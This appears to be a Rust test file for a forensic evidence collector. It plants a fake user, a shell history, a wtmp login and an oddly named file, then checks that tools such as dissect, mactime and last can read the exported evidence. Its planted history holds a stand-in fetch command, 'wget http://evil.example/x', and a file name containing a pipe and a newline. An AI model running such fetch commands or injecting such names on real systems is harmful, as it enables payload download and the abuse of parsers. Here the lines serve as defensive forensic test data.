//! Tools written by others read an export: dissect, mactime, last, dpkg, case_validate, bagit.

#![expect(
    clippy::disallowed_methods,
    clippy::indexing_slicing,
    clippy::panic,
    clippy::unwrap_used,
    reason = "tests run other people's programs"
)]

use std::fs;
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;

use hozen_tests::agent::Agent;
use hozen_tests::helper::Helper;
use hozen_tests::host::{Mounts, is_root, skipped};
use hozen_tests::python;
use nix::sys::stat::{UtimensatFlags, utimensat};
use nix::sys::time::TimeSpec;
use serde_json::Value;

/// What a program prints; it must succeed.
fn said(command: &mut Command) -> String {
    let output = command.output().unwrap_or_else(|error| panic!("{command:?}: {error}"));
    let text = String::from_utf8_lossy(&output.stdout).into_owned();
    assert!(output.status.success(), "{command:?}: {}\n{text}{}", output.status, String::from_utf8_lossy(&output.stderr));
    text
}

/// A user with a history, a file with a hostile name, and a login in `wtmp`.
fn plant(folder: &Path, mounts: &mut Mounts) {
    let users = folder.join("passwd");
    let known = fs::read_to_string("/etc/passwd").unwrap();
    fs::write(&users, format!("{known}ann:x:4242:4242::/home/ann:/bin/bash\n")).unwrap();
    mounts.bind(&users, Path::new("/etc/passwd"));
    mounts.tmpfs(Path::new("/home"), "8m");
    mounts.tmpfs(Path::new("/var/log"), "8m");
    fs::create_dir_all("/home/ann/.ssh").unwrap();
    fs::write("/home/ann/.bash_history", "#1700000000\nwget http://evil.example/x\n").unwrap();
    fs::write("/home/ann/.ssh/a|b\n", "x").unwrap();
    let then = TimeSpec::new(1_000_000_000, 0);
    utimensat(nix::fcntl::AT_FDCWD, "/home/ann/.ssh/a|b\n", &then, &then, UtimensatFlags::NoFollowSymlink).unwrap();
    fs::write("/var/log/wtmp", login()).unwrap();
}

/// A record of utmp(5): USER_PROCESS of ann on pts/7.
fn login() -> Vec<u8> {
    let mut record = vec![0_u8; 384];
    let mut put = |at: usize, bytes: &[u8]| record[at..at + bytes.len()].copy_from_slice(bytes);
    put(0, &7_i16.to_le_bytes());
    put(4, &4242_i32.to_le_bytes());
    put(8, b"pts/7");
    put(44, b"ann");
    put(76, b"evil.example");
    put(340, &1_700_000_000_i32.to_le_bytes());
    record
}

#[test]
fn tools_of_others_read_an_export() {
    let test = "tools_of_others_read_an_export";
    let Some(python) = python::forensics(test) else { return };
    if !is_root(test) {
        return;
    }
    let folder = tempfile::tempdir().unwrap();
    let (to, out) = (folder.path().join("evidence"), folder.path().join("out"));
    let mut mounts = Mounts::own();
    plant(folder.path(), &mut mounts);
    let plain = Helper::start("odd", ["plain"]);
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let evidence = Agent::find().collect(&to, &["--memory", "off", "--skip", "files"]);
    let formats = ["--format", "tree,tar,bodyfile,timesketch,case,bagit", "--to"].map(Into::into);
    let arguments = ["export".into(), evidence.dir.into_os_string()].into_iter().chain(formats).chain([out.clone().into()]);
    let finished = Agent::find().run(arguments);
    finished.assert_code(0);
    let (pid, port) = (plain.number("pid"), listener.local_addr().unwrap().port());
    dissect(&python, &out.join("root.tar"), pid, Some(port));
    // In the tree the content of a deleted file stands where its descriptor, a link, was: dissect's sockets want links only.
    dissect(&python, &out.join("[root]"), pid, None);
    mactime(test, &out.join("bodyfile.txt"));
    let logins = said(Command::new("last").arg("-f").arg(out.join("[root]/var/log/wtmp")));
    assert!(logins.contains("ann") && logins.contains("pts/7") && logins.contains("evil"), "{logins}");
    dpkg(&out.join("[root]"));
    said(Command::new(&python).args(["-m", "bagit", "--validate"]).arg(out.join("bag")));
    let verdict = said(Command::new(python.with_file_name("case_validate")).arg(out.join("case.jsonld")));
    assert!(verdict.contains("Conforms: True"), "{verdict}");
    let events = fs::read_to_string(out.join("timesketch.jsonl")).unwrap();
    let typed = |line: &str| line.contains("wget http://evil.example/x") && line.contains("2023-11-14T22:13:20.000000+00:00");
    assert!(events.lines().any(typed), "the command is no event");
}

#[test]
fn the_published_definitions_are_read() {
    let Some(python) = python::forensics("the_published_definitions_are_read") else { return };
    let counted: Value = serde_json::from_str(&said(Command::new(python).arg(python::script("definitions.py")))).unwrap();
    let folder = counted["folder"].as_str().unwrap();
    let only = ["collect", "--dry-run", "--unprivileged", "--only", "user_files", "--artifacts", folder];
    let finished = Agent::find().run(only);
    finished.assert_code(0);
    let taken = &finished.result()["user_files"];
    // Each path for Linux is looked for, but those of files that the kernel makes; they and the commands are refused.
    assert_eq!((&taken["content"], &taken["listing"]), (&counted["FILE"], &counted["PATH"]), "{counted} {taken}");
    assert!(counted["FILE"].as_u64() > Some(800) && counted["COMMAND"].as_u64() > Some(0), "{counted}");
    assert!(taken["refused"].as_u64() >= counted["COMMAND"].as_u64() && taken["other_system"].as_u64() > Some(100), "{taken}");
    assert!(finished.said().contains("Hozen executes nothing on a host"), "{}", finished.said());
}

/// Every function that dissect.target has for what was collected of a running system.
fn dissect(python: &Path, target: &Path, pid: i64, port: Option<u16>) {
    let ask = |function: &str| {
        let mut command = Command::new(python);
        said(command.args(["-m", "dissect.target.tools.query", "-q", "-s", "-f", function]).arg(target))
    };
    let has = |function: &str, words: &[String]| {
        let text = ask(function);
        assert!(
            text.lines().any(|line| words.iter().all(|word| line.contains(word))),
            "{function} of {}: {words:?}: {text}",
            target.display()
        );
    };
    has("os", &["linux".to_owned()]);
    has("processes", &[format!("pid={pid} "), "name='odd'".to_owned()]);
    has("cmdline", &[format!("pid={pid} "), "plain".to_owned()]);
    has("environ", &[format!("pid={pid} "), "PATH".to_owned()]);
    has("commandhistory", &["wget http://evil.example/x".to_owned()]);
    if let Some(port) = port {
        has("netstat", &[format!("127.0.0.1:{port}"), "LISTEN".to_owned()]);
        has("sockets", &[format!("local_port={port} ")]);
    }
}

fn mactime(test: &str, bodyfile: &Path) {
    let output = Command::new("mactime").args(["-z", "UTC", "-d", "-b"]).arg(bodyfile).output();
    let Ok(output) = output else {
        skipped(test, "mactime of sleuthkit");
        return;
    };
    let text = String::from_utf8_lossy(&output.stdout);
    let found = text.lines().any(|line| line.contains("Sun Sep 09 2001 01:46:40") && line.contains("/home/ann/.ssh/a|b\\x0a"));
    assert!(output.status.success() && found, "{text}");
}

/// On a host with dpkg, its database is one in the export too.
fn dpkg(root: &Path) {
    if Path::new("/var/lib/dpkg/status").is_file() {
        let admin = root.join("var/lib/dpkg");
        let text = said(Command::new("dpkg-query").arg(format!("--admindir={}", admin.display())).args([
            "-W",
            "-f",
            "${Status}\n",
            "dpkg",
        ]));
        assert_eq!(text, "install ok installed\n");
    }
}
